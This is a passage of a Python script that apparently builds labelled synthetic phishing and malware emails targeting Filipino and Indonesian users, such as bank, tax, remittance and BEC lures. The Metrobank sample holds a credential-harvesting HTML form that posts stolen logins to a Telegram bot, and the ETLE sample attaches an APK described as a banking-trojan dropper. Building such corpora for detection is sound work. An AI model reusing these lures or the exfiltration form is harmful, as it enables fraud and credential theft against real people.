X-Gm-Message-State: {b64s(stem + 'gms', 64)}
X-Gm-Gg: {b64s(stem + 'ggg', 120)}
MIME-Version: 1.0
From: PhilSys Registry Office <{sender}>
Date: {rfc(d)}
Message-ID: {gmail_mid(stem)}
Subject: Your ePhilID is ready for download - PSA PhilSys
To: {rcpt}"""
    add(stem, "phishing", "PhilSys ePhilID download lure from a free Gmail account posing as PSA, linking to a "
        "Google Sites page that collects the PhilSys card number, mobile number and OTP",
        t_gmail(rcpt, d, a, stem, google_sender=True), headers, body)


def ph_wu_ofw() -> None:
    stem = f"b{N}-phish-wu-ofw-hold"
    d = D("2024-09-05 16:12:47 +0800")
    rcpt = "lorna.santos1968@gmail.com"
    sender = "wu.compliance.ph@outlook.com"
    mbx = "SEZPR03MB" + digits(stem + "mb", 4)
    a = Auth(sender, "40.92.53.81", "APC01-SG2-obe.outbound.protection.outlook.com", "APC01-SG2-obe.outbound.protection.outlook.com",
             "pass", [("outlook.com", "selector1", "pass")], "pass", "NONE", "outlook.com", stem)
    a.host = "mail-sgaapc01olkn2081.outbound.protection.outlook.com"
    mtcn = digits(stem + "mtcn", 10)
    plain = f"""Western Union Money Transfer
Compliance and Anti-Money Laundering Department
Manila, Philippines

Attention: Beneficiary LORNA SANTOS

This is to notify you that an international money transfer in your favour is currently ON HOLD.

Sender: RICARDO M. SANTOS
Country of origin: Riyadh, Kingdom of Saudi Arabia
Amount: USD 2,850.00 (PHP 159,315.00)
MTCN: {mtcn[:3]}-{mtcn[3:6]}-{mtcn[6:]}

Under the Anti-Money Laundering Act (RA 9160) transfers above USD 2,000.00 to first-time receivers require
an AML clearance certificate before release. The clearance fee of PHP 3,500.00 must be paid by the
receiver and is refundable upon claim of the funds.

Please pay the clearance fee via GCash to our accredited compliance officer:
GCash number: 0916 482 7731
Account name: JO***A M. R.

After payment, reply to this email with a screenshot of your receipt and a photo of your valid ID
(front and back). The funds will be released to your bank account or any Western Union agent location
within 2 hours.

If the clearance is not settled within 3 days the transfer will be returned to the sender and
a cancellation penalty will be charged.

For faster assistance you may message our officer on WhatsApp: +63 916 482 7731

Sincerely,
Atty. Ramon D. Villareal
AML Compliance Officer
Western Union Philippines
"""
    body = Multi("alternative", f"_000_{mbx}{hx(stem, 24, True)}_", [
        text(plain, "plain", "quoted-printable", "us-ascii"),
        qp_html('<html><head><meta http-equiv="Content-Type" content="text/html; charset=us-ascii"><style type="text/css" '
                'style="display:none;"> P {margin-top:0;margin-bottom:0;} </style></head><body dir="ltr">'
                '<div class="elementToProof" style="font-family: Aptos, Aptos_EmbeddedFont, Aptos_MSFontService, Calibri, '
                'Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">'
                + "<br>\n".join(esc(l) for l in plain.split("\n")) + "</div></body></html>", "us-ascii"),
    ])
    headers = f"""{dkim('outlook.com', 'selector1', stem, 'From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck', d)}
Received: from {mbx}.apcprd03.prod.outlook.com
 ([fe80::{hx(stem + 'f1', 4)}:{hx(stem + 'f2', 4)}:{hx(stem + 'f3', 4)}:{hx(stem + 'f4', 4)}]) by {mbx}.apcprd03.prod.outlook.com
 ([fe80::{hx(stem + 'f1', 4)}:{hx(stem + 'f2', 4)}:{hx(stem + 'f3', 4)}:{hx(stem + 'f4', 4)}%6]) with mapi id 15.20.7918.024; {rfc_utc(d)}
From: Western Union Compliance <{sender}>
To: "{rcpt}" <{rcpt}>
Subject: TRANSFER ON HOLD - AML Clearance Required MTCN {mtcn[:3]}-XXX-{mtcn[-4:]}
Thread-Topic: TRANSFER ON HOLD - AML Clearance Required MTCN {mtcn[:3]}-XXX-{mtcn[-4:]}
Thread-Index: {tindex(stem, 16, 'db')}
Date: {format_datetime(at(d, '+0000'))}
Message-ID:
 <{mbx}{hx(stem + 'omid', 28, True)}@{mbx}.apcprd03.prod.outlook.com>
Accept-Language: en-US
Content-Language: en-US
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
x-ms-exchange-messagesentrepresentingtype: 1
MIME-Version: 1.0"""
    add(stem, "phishing", "Advance-fee fraud posing as Western Union AML compliance, telling an OFW family member a "
        "remittance is on hold until a clearance fee is paid by GCash, sent from a free Outlook.com account with no link",
        t_gmail(rcpt, d, a, stem), headers, body)


def ph_loan_harass() -> None:
    stem = f"b{N}-phish-loan-app-harass"
    d = D("2025-05-16 08:05:11 +0800")
    rcpt = "mjtolentino.work@yahoo.com"
    sender = "collections.peraagad.ph@gmail.com"
    a = Auth(sender, "209.85.220.65", "mail-sor-f65.google.com", "mail-sor-f65.google.com", "pass",
             [("gmail.com", "20230601", "pass")], "pass", "NONE", "gmail.com", stem)
    plain = """FINAL DEMAND / HULING ABISO

Case No.: PAG-2025-051-88317
Borrower: MARK JOSEPH TOLENTINO
Outstanding balance: PHP 7,860.00 (principal + service fee + penalty)
Days overdue: 12

Sir/Ma'am,

Ilang beses na kaming nag-text at tumawag pero hindi kayo sumasagot. Ito na ang huling abiso bago namin
i-endorse ang account ninyo sa aming legal department.

Kapag hindi nabayaran ang buong halaga ngayong araw bago mag 5:00 PM:
 - Ipapadala namin ang DEMAND LETTER sa lahat ng contacts sa phone ninyo, pati sa employer at barangay.
 - Ipo-post ang inyong pangalan at larawan bilang SCAMMER / ESTAFADOR sa social media.
 - Magfa-file kami ng kasong ESTAFA (Art. 315 RPC) sa prosecutor's office.

Para iwasan ito, magbayad agad sa aming collection agent:
GCash: 0995 213 6480 (R*****O D.)
Maya: 0961 774 2095

I-send ang screenshot ng resibo sa email na ito o sa Viber 0995 213 6480 para ma-update ang account.

Walang extension. Walang partial.

PeraAgad Lending - Collection Department
SEC Reg. No. CS2019XXXXX / CA No. 3XXX
"""
    body = alt(stem, qp_plain(plain), qp_html(gmail_html([esc(l) if l else "" for l in plain.split("\n")])))
    headers = f"""{dkim('gmail.com', '20230601', stem, 'to:subject:message-id:date:from:mime-version:from:to:cc:subject:date:message-id:reply-to', d)}
X-Gm-Message-State: {b64s(stem + 'gms', 64)}
{gx_received(stem, d)}
MIME-Version: 1.0
From: PeraAgad Collection <{sender}>
Date: {rfc(d)}
Message-ID: {gmail_mid(stem)}
Subject: FINAL DEMAND - Case No. PAG-2025-051-88317 - Bayaran bago 5PM ngayong araw
To: {rcpt}"""
    add(stem, "phishing", "Taglish online-lending-app harassment and extortion threatening to shame the borrower to "
        "their contacts unless a payment is sent to GCash and Maya numbers, from a free Gmail account with no link",
        t_yahoo(rcpt, d, a, stem), headers, body)


def ph_metrobank_html() -> None:
    stem = f"b{N}-phish-metrobank-html-statement"
    d = D("2025-07-14 08:33:11 +0800")
    rcpt = "cristina.yap@sunrisefreight.com.ph"
    dom = "metrobank-alerts.com"
    mf = f"bounce+{hx(stem + 'bo', 6)}.{hx(stem + 'bo2', 6)}-cristina.yap=sunrisefreight.com.ph@mg.{dom}"
    a = Auth(mf, "159.135.228.12", "m228-12.mailgun.net", "m228-12.mailgun.net", "pass",
             [(f"mg.{dom}", "k1", "pass")], "none", "NONE", dom, stem)
    form = f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Metrobank e-Statement - Secure Viewer</title>
<style>body{{font-family:Arial,sans-serif;background:#eef1f6;margin:0}}.box{{max-width:380px;margin:60px auto;background:#fff;
padding:28px;border-top:5px solid #0b3d91;box-shadow:0 2px 8px rgba(0,0,0,.15)}}input{{width:100%;padding:10px;margin:6px 0 14px;
border:1px solid #bbb;box-sizing:border-box}}button{{width:100%;padding:12px;background:#0b3d91;color:#fff;border:0;font-weight:bold}}</style>
</head><body><div class="box">
<h3 style="color:#0b3d91;margin-top:0">Metrobank Online</h3>
<p style="font-size:13px">Your July 2025 e-Statement is protected. Sign in with your Metrobank Online credentials to view the document.</p>
<form id="f" action="https://metrobank-alerts.com/estmt/v.php" method="post">
<label>Username</label><input name="u" required>
<label>Password</label><input name="p" type="password" required>
<label>Registered mobile number</label><input name="m" required>
<button type="submit">View Statement</button></form>
<p style="font-size:11px;color:#777">&copy; 2025 Metropolitan Bank &amp; Trust Company. Regulated by the Bangko Sentral ng Pilipinas.</p>
</div>
<script>
document.getElementById('f').addEventListener('submit',function(e){{e.preventDefault();var d=new FormData(this);
fetch('https://api.telegram.org/bot7482930156:AAH{alnum(stem + 'bot', 32)}/sendMessage?chat_id=-100{digits(stem + 'chat', 10)}&text='+
encodeURIComponent('MBTC|'+d.get('u')+'|'+d.get('p')+'|'+d.get('m'))).then(function(){{location.href='https://metrobank-alerts.com/estmt/otp.php';}});}});
</script></body></html>
"""
    html = brand_html(
        "#0b3d91", "Metrobank", "Your e-Statement is ready",
        ["Dear Valued Client,",
         "Your Metrobank Savings / Checking Account e-Statement for the period <b>June 1 - June 30, 2025</b> is now "
         "available. Please refer to the attached secure file.",
         "For your protection, you will be asked to confirm your Metrobank Online credentials before the statement "
         "is displayed.",
         "You are truly valued.<br>Metrobank"],
        None, "Metropolitan Bank &amp; Trust Company is regulated by the Bangko Sentral ng Pilipinas. "
        "Deposits are insured by PDIC up to P1,000,000 per depositor.")
    body = Multi("mixed", boundary(stem, "mailgun"), [
        Multi("alternative", boundary(stem + "a", "mailgun"), [
            qp_plain("Dear Valued Client,\n\nYour Metrobank e-Statement for June 1 - June 30, 2025 is attached.\n\nMetrobank\n"),
            qp_html(html)]),
        Leaf("text/html", form.encode(), "base64", '; charset="utf-8"; name="Metrobank_eStatement_Jun2025.html"',
             'attachment; filename="Metrobank_eStatement_Jun2025.html"'),
    ])
    headers = f"""{dkim('mg.' + dom, 'k1', stem, 'Content-Type: Mime-Version: Subject: Subject: From: From: To: To: Date: Message-Id: Sender: Sender', d)}
X-Mailgun-Sending-Ip: 159.135.228.12
X-Mailgun-Sid: {b64s(stem + 'sid', 60)}
Received: by {hx(stem + 'mgh', 28)} with HTTP; {rfc_utc(d)}
Date: {format_datetime(at(d, '+0000'))}
From: Metrobank <estatements@{dom}>
To: {rcpt}
Subject: Your Metrobank e-Statement for June 2025
Message-Id: <{at(d, '+0000').strftime('%Y%m%d%H%M%S')}.{hx(stem + 'mid', 16)}@mg.{dom}>
Sender: estatements@mg.{dom}
Mime-Version: 1.0"""
    add(stem, "phishing", "Metrobank e-Statement lure sent through Mailgun from a look-alike domain with an HTML "
        "attachment holding a local login form that exfiltrates credentials to a Telegram bot",
        t_m365(rcpt, d, a, stem, ctry="US", region="apcprd03"), headers, body)


def ph_unionbank_bec() -> None:
    stem = f"b{N}-phish-supplier-bankchange-bec"
    d = D("2025-09-23 15:48:02 +0800")
    rcpt = "liza.manalo@sunrisefreight.com.ph"
    dom = "pacifikopack-ph.com"
    mbx = "PS2PR02MB" + digits(stem + "mb", 4)
    a = Auth(f"karen.lim@{dom}", "40.107.255.72", "mail-psaapc01on2072.outbound.protection.outlook.com",
             "APC01-PSA-obe.outbound.protection.outlook.com", "pass",
             [("pacifikopackph.onmicrosoft.com", "selector1-pacifikopackph-onmicrosoft-com", "pass")],
             "none", "NONE", dom, stem)
    paras = [
        "Good afternoon Ma&#8217;am Liza,", "",
        "Hope you are doing well.", "",
        "Please be advised that effective immediately our company has changed its collecting bank account due to "
        "an ongoing reconciliation with our BPI corporate account. Kindly update your vendor records with the new "
        "details below and disregard the account indicated on our previous invoices:", "",
        "<b>Bank:</b> UnionBank of the Philippines &#8211; Ortigas Center Branch",
        "<b>Account Name:</b> Pacifiko Packaging Supply Corp.",
        "<b>Account No.:</b> 0026 3018 4479",
        "<b>SWIFT:</b> UBPHPHMM", "",
        "May we also request that the pending payment for INV-2025-0913 (&#8369;284,550.00) and INV-2025-0921 "
        "(&#8369;197,300.00) be processed to the new account this week, as both are already past due. Kindly send "
        "us the remittance advice once done so we can update our SOA.", "",
        "Thank you and God bless.",
    ]
    sig = "Karen Lim\nAccounts Receivable Supervisor\nPacifiko Packaging Supply Corp.\nUnit 1205 Tektite East Tower, Ortigas Center, Pasig City\nTel. (02) 8635-2190 | Mobile 0917-852-3317"
    plain = ("Good afternoon Ma'am Liza,\n\nHope you are doing well.\n\nPlease be advised that effective immediately "
             "our company has changed its collecting bank account. Kindly update your vendor records:\n\nBank: UnionBank "
             "of the Philippines - Ortigas Center Branch\nAccount Name: Pacifiko Packaging Supply Corp.\nAccount No.: "
             "0026 3018 4479\nSWIFT: UBPHPHMM\n\nMay we also request that the pending payment for INV-2025-0913 "
             "(PHP 284,550.00) and INV-2025-0921 (PHP 197,300.00) be processed to the new account this week. Kindly send "
             "us the remittance advice once done.\n\nThank you and God bless.\n\n" + sig + "\n")
    body = Multi("alternative", f"_000_{mbx}{hx(stem, 24, True)}_", [
        text(plain, "plain", "quoted-printable", "us-ascii"), qp_html(outlook_html(paras, sig))])
    headers = f"""{dkim('pacifikopackph.onmicrosoft.com', 'selector1-pacifikopackph-onmicrosoft-com', stem, 'From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck', d)}
Received: from {mbx}.apcprd02.prod.outlook.com
 ([fe80::{hx(stem + 'f1', 4)}:{hx(stem + 'f2', 4)}:{hx(stem + 'f3', 4)}:{hx(stem + 'f4', 4)}]) by {mbx}.apcprd02.prod.outlook.com
 ([fe80::{hx(stem + 'f1', 4)}:{hx(stem + 'f2', 4)}:{hx(stem + 'f3', 4)}:{hx(stem + 'f4', 4)}%5]) with mapi id 15.20.9137.018; {rfc_utc(d)}
From: Karen Lim <karen.lim@{dom}>
To: Liza Manalo <{rcpt}>
CC: Accounts Payable <ap@sunrisefreight.com.ph>
Subject: Updated Bank Details - Pacifiko Packaging Supply Corp.
Thread-Topic: Updated Bank Details - Pacifiko Packaging Supply Corp.
Thread-Index: {tindex(stem, 16, 'dc')}
Date: {format_datetime(at(d, '+0000'))}
Message-ID:
 <{mbx}{hx(stem + 'omid', 28, True)}@{mbx}.apcprd02.prod.outlook.com>
Accept-Language: en-US
Content-Language: en-US
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
MIME-Version: 1.0"""
    add(stem, "phishing", "Supplier bank-change business email compromise from a freshly registered look-alike of the "
        "supplier's domain on its own Microsoft 365 tenant, asking accounts payable to pay overdue invoices to a new "
        "UnionBank account", t_m365(rcpt, d, a, stem, ctry="PH", region="apcprd03"), headers, body)


# ---------------------------------------------------------------------------
# ATTACKS - Indonesia
# ---------------------------------------------------------------------------

def id_bca_blokir() -> None:
    stem = f"b{N}-phish-bca-blokir"
    d = D("2025-02-18 06:12:44 +0700")
    rcpt = "dewi.anggraini91@gmail.com"
    dom = "klikbca-verifikasi.com"
    host = f"mail.{dom}"
    a = Auth(f"halo@{dom}", "103.127.98.41", host, host, "pass", [(dom, "default", "pass")], "none", "NONE", dom, stem)
    url = f"https://{dom}/myBCA/login?sesi={hx(stem + 's', 20)}"
    html = brand_html(
        "#005eb8", "BCA", "Akses myBCA Anda Diblokir Sementara",
        ["Nasabah Yth.,",
         "Kami mendeteksi aktivitas login yang tidak biasa pada akun <b>myBCA</b> Anda dari perangkat baru:",
         "Perangkat: Android (Redmi Note 13)<br>Lokasi: Jakarta Barat<br>Waktu: 18/02/2025 02:14 WIB",
         "Demi keamanan, akses myBCA dan KlikBCA Individu Anda telah <b>diblokir sementara</b>. Silakan lakukan "
         "verifikasi data dalam waktu <b>1x24 jam</b>. Apabila tidak dilakukan verifikasi, rekening Anda akan "
         "dinonaktifkan dan Anda harus datang ke kantor cabang terdekat."],
        ("Verifikasi Sekarang", url),
        "PT Bank Central Asia Tbk terdaftar dan diawasi oleh Otoritas Jasa Keuangan (OJK) dan Bank Indonesia serta "
        "merupakan peserta penjaminan LPS.<br>Halo BCA 1500888 | www.bca.co.id",
        lang="id", after=["Terima kasih atas kepercayaan Anda.<br>Salam hangat,<br><b>BCA</b>"])
    plain = ("Nasabah Yth.,\n\nKami mendeteksi aktivitas login yang tidak biasa pada akun myBCA Anda. Demi keamanan, "
             "akses myBCA dan KlikBCA Individu Anda telah diblokir sementara. Silakan lakukan verifikasi data dalam "
             f"waktu 1x24 jam:\n{url}\n\nSalam hangat,\nBCA\n")
    body = Multi("alternative", boundary(stem, "roundcube"), [qp_plain(plain), qp_html(html)])
    headers = f"""{dkim(dom, 'default', stem, 'Subject:To:From:Date:From', d, c='relaxed/simple')}
Received: from [127.0.0.1] (localhost [127.0.0.1])
	(Authenticated sender: halo@{dom})
	by {host} (Postfix) with ESMTPSA id {hx(stem + 'q', 11, True)}
	for <{rcpt}>; {format_datetime(at(d, '+0700'))}
MIME-Version: 1.0
Date: {format_datetime(at(d, '+0700'))}
From: BCA <halo@{dom}>
To: {rcpt}
Subject: Akun myBCA Anda Diblokir Sementara - Segera Lakukan Verifikasi
Message-ID: <{hx(stem + 'mid', 32)}@{dom}>
X-Sender: halo@{dom}
User-Agent: Roundcube Webmail/1.6.6"""
    add(stem, "phishing", "Bahasa Indonesia BCA myBCA account-block lure from a look-alike domain (self-hosted Postfix "
        "with Roundcube), linking to a credential and OTP phishing page", t_gmail(rcpt, d, a, stem), headers, body)


def id_mandiri_tarif() -> None:
    stem = f"b{N}-phish-mandiri-tarif-sid"
    d = D("2024-10-07 13:26:09 +0700")
    rcpt = "budi.santoso77@yahoo.co.id"
    dom = "mandiri-livin.info"
    host = "sg2plcpnl0147.prod.sin2.secureserver.net"
    a = Auth(f"info@{dom}", "148.66.136.21", host, host, "pass", [(dom, "default", "pass")], "none", "NONE", dom, stem)
    url_yes = "https://s.id/livin-tarif-setuju"
    url_no = "https://s.id/livin-tarif-tolak"
    html = kit_html([
        '<div style="background:#003d79;padding:16px;"><span style="color:#ffb700;font-size:22px;font-weight:bold;">'
        "livin&#8217;</span><span style=\"color:#fff;font-size:14px;\"> by mandiri</span></div>",
        "<p>Nasabah Yth,</p>",
        "<p>Sehubungan dengan penyesuaian biaya layanan transaksi, mulai <b>8 Oktober 2024</b> Bank Mandiri "
        "memberlakukan tarif baru:</p>",
        "<ul><li>Tarif LAMA: Rp 6.500/transaksi transfer antar bank</li>"
        "<li>Tarif BARU: <b>Rp 150.000/bulan</b> untuk transaksi tanpa batas (autodebet)</li></ul>",
        "<p>Apabila Anda tidak memberikan konfirmasi, maka sistem akan otomatis memilih <b>Tarif BARU</b> dan "
        "pendebetan dilakukan setiap tanggal 1.</p>",
        f'<p><a href="{url_yes}" style="background:#003d79;color:#fff;padding:10px 18px;text-decoration:none;">'
        "SETUJU Tarif Baru</a>&nbsp;&nbsp;"
        f'<a href="{url_no}" style="background:#ffb700;color:#003d79;padding:10px 18px;text-decoration:none;">'
        "TIDAK SETUJU (Tetap Tarif Lama)</a></p>",
        "<p>Terima kasih,<br>PT Bank Mandiri (Persero) Tbk.</p>",
        '<p style="font-size:11px;color:#888;">Mandiri Call 14000 | Bank Mandiri terdaftar dan diawasi oleh OJK</p>',
    ], lang="id")
    body = Multi("alternative", boundary(stem, "phpmailer"), [
        qp_plain("Nasabah Yth,\n\nMulai 8 Oktober 2024 Bank Mandiri memberlakukan tarif baru Rp 150.000/bulan. "
                 f"Konfirmasi pilihan Anda:\nSETUJU: {url_yes}\nTIDAK SETUJU: {url_no}\n\nPT Bank Mandiri (Persero) Tbk.\n"),
        qp_html(html)])
    headers = f"""{dkim(dom, 'default', stem, 'Content-Type:MIME-Version:Message-ID:Date:Subject:To:From:Reply-To:Sender', d)}
{hop_exim(host, d, stem, '182.253.71.194', 'DESKTOP-K2M8QF1', f'info@{dom}', rcpt, '-0700')}
Date: {format_datetime(at(d, '+0700'))}
To: {rcpt}
From: "Livin' by Mandiri" <info@{dom}>
Subject: Pemberitahuan Perubahan Tarif Transaksi Livin' by Mandiri
Message-ID: {phpmailer_id(stem, dom)}
X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)
MIME-Version: 1.0"""
    add(stem, "phishing", "Bahasa Indonesia Livin' by Mandiri new-transfer-fee lure (agree/decline buttons) from a "
        "look-alike domain on shared hosting, with both choices going through s.id shortlinks to a banking-credential page",
        t_yahoo(rcpt, d, a, stem), headers, body)


def id_etle_apk() -> None:
    stem = f"b{N}-phish-etle-tilang-apk"
    d = D("2025-07-02 10:51:37 +0700")
    rcpt = "rizky.pratama@outlook.co.id"
    dom = "etle-korlantas.info"
    host = "srv1184.hstgr.io"
    a = Auth(f"noreply@{dom}", "153.92.8.119", host, host, "pass", [(dom, "hostingermail1", "pass")], "none", "NONE", dom, stem)
    no = f"ETLE/2025/07/{digits(stem + 'no', 6)}"
    payload = apk("com.etle.tilang.viewer", "Surat Tilang ETLE", stem)
    paras = [
        "<p><b>KEPOLISIAN NEGARA REPUBLIK INDONESIA<br>KORPS LALU LINTAS</b></p>",
        f"<p>Nomor: {no}<br>Perihal: <b>Surat Konfirmasi Pelanggaran Lalu Lintas (ETLE)</b></p>",
        "<p>Yth. Pemilik Kendaraan,</p>",
        "<p>Berdasarkan rekaman kamera Electronic Traffic Law Enforcement (ETLE) pada tanggal 28 Juni 2025 pukul "
        "17:42 WIB di Jl. Jend. Sudirman, Jakarta Pusat, kendaraan Anda terdeteksi melakukan pelanggaran "
        "<b>melanggar marka / rambu lalu lintas</b> (Pasal 287 ayat 1 UU No. 22 Tahun 2009).</p>",
        "<p>Foto bukti pelanggaran dan surat konfirmasi dapat dilihat melalui aplikasi <b>Surat Tilang ETLE</b> "
        "terlampir. Silakan unduh dan pasang lampiran pada ponsel Android Anda, lalu izinkan instalasi dari sumber "
        "tidak dikenal.</p>",
        "<p>Konfirmasi wajib dilakukan dalam waktu <b>8 hari</b>. Apabila tidak dikonfirmasi, STNK kendaraan akan "
        "diblokir sementara.</p>",
        "<p>Hormat kami,<br>Subdit Gakkum Ditlantas Polda Metro Jaya</p>",
    ]
    body = Multi("mixed", boundary(stem, "phpmailer"), [
        qp_html(kit_html(paras, lang="id")),
        attachment("application/vnd.android.package-archive", "Surat_Tilang_ETLE.apk", payload),
    ])
    headers = f"""{dkim(dom, 'hostingermail1', stem, 'Content-Type:MIME-Version:Message-ID:Subject:From:To:Date', d)}
Received: from [36.85.112.43] (unknown [36.85.112.43])
	(Authenticated sender: noreply@{dom})
	by {host} (Postfix) with ESMTPSA id 4bX{alnum(stem + 'q', 9)}
	for <{rcpt}>; {format_datetime(at(d, '+0000'))}
Date: {format_datetime(at(d, '+0700'))}
To: {rcpt}
From: ETLE Korlantas POLRI <noreply@{dom}>
Subject: Surat Konfirmasi Pelanggaran Lalu Lintas No. {no}
Message-ID: {phpmailer_id(stem, dom)}
X-Mailer: PHPMailer 6.9.3 (https://github.com/PHPMailer/PHPMailer)
MIME-Version: 1.0"""
    add(stem, "malware", "Bahasa Indonesia ETLE electronic traffic-ticket lure from a look-alike police domain with an "
        "attached Android APK posing as the ticket viewer (banking-trojan dropper pattern)",
        t_m365(rcpt, d, a, stem, ctry="LT", lang="id", consumer=True, region="apcprd01"), headers, body)


def id_coretax() -> None:
    stem = f"b{N}-phish-djp-coretax"
    d = D("2025-01-20 09:15:02 +0700")
    rcpt = "finance@tanjungmas-trading.co.id"
    dom = "coretaxdjp-online.com"
    sesid = f"0100019{hx(stem + 'ses', 9)}-{guid(stem + 'sesg')}-000000"
    a = Auth(f"{sesid}@amazonses.com", "54.240.48.110", "a48-110.smtp-out.amazonses.com", "a48-110.smtp-out.amazonses.com",
             "pass", [(dom, hx(stem + 'sel', 32), "pass"), ("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", "pass")],
             "none", "NONE", dom, stem)
    url = f"https://{dom}/portal/aktivasi?npwp=&ref={hx(stem + 'ref', 12)}"
    html = brand_html(
        "#00355f", "DJP - Direktorat Jenderal Pajak", "Aktivasi Akun Coretax DJP",
        ["Yth. Wajib Pajak,",
         "Sehubungan dengan implementasi <b>Sistem Inti Administrasi Perpajakan (Coretax DJP)</b> sejak 1 Januari 2025, "
         "seluruh Wajib Pajak Badan dan Orang Pribadi wajib melakukan <b>aktivasi akun</b> dan "
         "<b>pemadanan NIK-NPWP</b> paling lambat <b>31 Januari 2025</b>.",
         "Wajib Pajak yang belum melakukan aktivasi tidak dapat membuat faktur pajak (e-Faktur), melaporkan SPT "
         "Masa PPN, maupun SPT Tahunan 2024, dan akan dikenakan sanksi administrasi sesuai PMK 81 Tahun 2024.",
         "Silakan lakukan aktivasi melalui tautan resmi berikut dengan menggunakan EFIN dan kata sandi DJP Online Anda:"],
        ("Aktivasi Akun Coretax", url),
        "Direktorat Jenderal Pajak - Kementerian Keuangan Republik Indonesia<br>Jl. Jend. Gatot Subroto Kav. 40-42, "
        "Jakarta 12190 | Kring Pajak 1500200<br>Email ini dikirim secara otomatis, mohon tidak membalas.",
        lang="id", after=["Pajak Kuat, Indonesia Maju.<br>Direktorat Jenderal Pajak"])
    plain = ("Yth. Wajib Pajak,\n\nSeluruh Wajib Pajak wajib melakukan aktivasi akun Coretax DJP dan pemadanan NIK-NPWP "
             f"paling lambat 31 Januari 2025.\n\nAktivasi: {url}\n\nDirektorat Jenderal Pajak\n")
    body = Multi("alternative", boundary(stem, "ses"), [qp_plain(plain), qp_html(html)])
    headers = f"""{dkim(dom, hx(stem + 'sel', 32), stem, 'Content-Type:From:To:Subject:MIME-Version:Message-ID:Date', d, c='relaxed/simple')}
{dkim('amazonses.com', '224i4yxa5dv7c2xz3womw6peuasteono', stem, 'Content-Type:From:To:Subject:MIME-Version:Message-ID:Date:Feedback-ID', d, c='relaxed/simple')}
From: Direktorat Jenderal Pajak <info@{dom}>
To: {rcpt}
Subject: Pemberitahuan: Aktivasi Akun Coretax DJP dan Pemadanan NIK-NPWP Paling Lambat 31 Januari 2025
MIME-Version: 1.0
Message-ID: <{sesid}@email.amazonses.com>
Date: {format_datetime(at(d, '+0000'))}
Feedback-ID: ::1.us-east-1.{hash32(stem + 'fb')}:AmazonSES
X-SES-Outgoing: {at(d, '+0000').strftime('%Y.%m.%d')}-54.240.48.110"""
    add(stem, "phishing", "Bahasa Indonesia DJP Coretax account-activation deadline lure sent through Amazon SES from a "
        "look-alike domain to a company finance mailbox, linking to a DJP Online credential page",
        t_postfix(rcpt, d, a, stem, "mail.tanjungmas-trading.co.id", "+0700", zimbra=True), headers, body)


def id_dana_kaget() -> None:
    stem = f"b{N}-phish-dana-kaget"
    d = D("2024-12-12 20:03:27 +0700")
    rcpt = "ayu.lestari.putri@gmail.com"
    dom = "stikesharapanbangsa.ac.id"
    host = f"mail.{dom}"
    a = Auth(f"humas@{dom}", "202.162.35.18", host, host, "pass", [(dom, "8F2C4A10-6B3E-11EE-9D71-3C7A51E2B0F4", "pass")],
             "none", "NONE", dom, stem)
    url = "https://bit.ly/DanaKaget-Des24"
    paras = [
        '<div style="background:#118eea;color:#fff;padding:14px;font-size:20px;font-weight:bold;">DANA</div>',
        "<p>Selamat! &#127881;</p>",
        "<p>Nomor Anda terpilih sebagai penerima <b>DANA Kaget Akhir Tahun</b> senilai <b>Rp 1.250.000</b> dari "
        "program apresiasi pengguna setia DANA Indonesia.</p>",
        "<p>Saldo akan langsung masuk ke akun DANA Anda setelah proses klaim. Batas klaim hari ini pukul "
        "<b>23:59 WIB</b>.</p>",
        f'<p><a href="{url}" style="font-size:16px;font-weight:bold;">&#128073; KLAIM SALDO DANA SEKARANG</a></p>',
        "<p>Langkah klaim: masukkan nomor HP terdaftar, PIN DANA 6 digit, lalu kode OTP yang dikirim via SMS.</p>",
        '<p style="font-size:11px;color:#888;">DANA - Dompet Digital Indonesia. Terdaftar dan diawasi oleh Bank Indonesia.</p>',
    ]
    body = Multi("alternative", boundary(stem + "z", "zimbra"), [
        qp_plain("Selamat! Nomor Anda terpilih sebagai penerima DANA Kaget Akhir Tahun senilai Rp 1.250.000.\n"
                 f"Klaim sebelum 23:59 WIB: {url}\n"),
        qp_html(kit_html(paras, lang="id"))])
    headers = f"""{dkim(dom, '8F2C4A10-6B3E-11EE-9D71-3C7A51E2B0F4', stem, 'Date:From:Reply-To:Message-ID:Subject:MIME-Version:Content-Type', d)}
Received: from mail.{dom} (localhost [127.0.0.1])
	by mail.{dom} (Postfix) with ESMTPS id {hx(stem + 'q1', 10, True)};
	{format_datetime(at(d, '+0700'))}
Received: from localhost (localhost [127.0.0.1])
	by mail.{dom} (Postfix) with ESMTP id {hx(stem + 'q2', 10, True)};
	{format_datetime(at(d, '+0700'))}
X-Virus-Scanned: amavis at {dom}
Received: from mail.{dom} ([127.0.0.1])
 by localhost (mail.{dom} [127.0.0.1]) (amavis, port 10026) with ESMTP
 id {alnum(stem + 'am', 12)}; {format_datetime(at(d, '+0700'))}
Received: from mail.{dom} (mail.{dom} [202.162.35.18])
	by mail.{dom} (Postfix) with ESMTP id {hx(stem + 'q3', 10, True)};
	{format_datetime(at(d, '+0700'))}
Date: {format_datetime(at(d, '+0700'))}
From: DANA Indonesia <humas@{dom}>
Reply-To: DANA Indonesia <no-reply.dana.id@gmail.com>
To: undisclosed-recipients:;
Message-ID: <{digits(stem + 'mid', 9)}.{digits(stem + 'mid2', 7)}.{ts(d)}{digits(stem + 'mid3', 3)}.JavaMail.zimbra@{dom}>
Subject: =?utf-8?Q?Selamat!_Anda_mendapatkan_DANA_Kaget_Rp_1.250.000_=F0=9F=8E=81?=
MIME-Version: 1.0
X-Originating-IP: [114.122.101.77]
X-Mailer: Zimbra 9.0.0_GA_4546 (ZimbraWebClient - GC131 (Win)/9.0.0_GA_4546)
Thread-Index: {b64s(stem + 'zti', 20)}
Thread-Topic: Selamat! Anda mendapatkan DANA Kaget Rp 1.250.000"""
    add(stem, "phishing", "Bahasa Indonesia DANA Kaget prize lure sent from a compromised college Zimbra mailbox with a "
        "DANA display name, linking through bit.ly to a phone-number, PIN and OTP harvesting page",
        t_gmail(rcpt, d, a, stem), headers, body)


def id_pln_html() -> None:
